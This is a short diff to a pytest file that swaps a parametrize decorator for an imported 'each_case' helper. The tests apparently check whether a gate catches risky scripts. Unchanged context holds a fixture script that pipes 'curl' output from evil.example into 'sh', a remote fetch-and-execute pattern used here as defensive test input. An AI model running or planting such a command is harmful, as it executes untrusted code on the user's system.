@@ -18,6 +18,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 CALM = "#!/bin/sh\necho ok\n"
 FETCH = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
@@ -66,7 +67,7 @@ def variants(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
     return _reviewed(tmp_path_factory.mktemp("variants"), TASKS)[1]
 
 
-@pytest.mark.parametrize("name", TASKS)
+@each_case("name", TASKS)
 def test_a_script_the_played_task_runs_is_ci(variants: dict[str, bool], name: str) -> None:
     assert variants[name], name  # on 41076f0: src, the gate allowed it (exit 0)
 
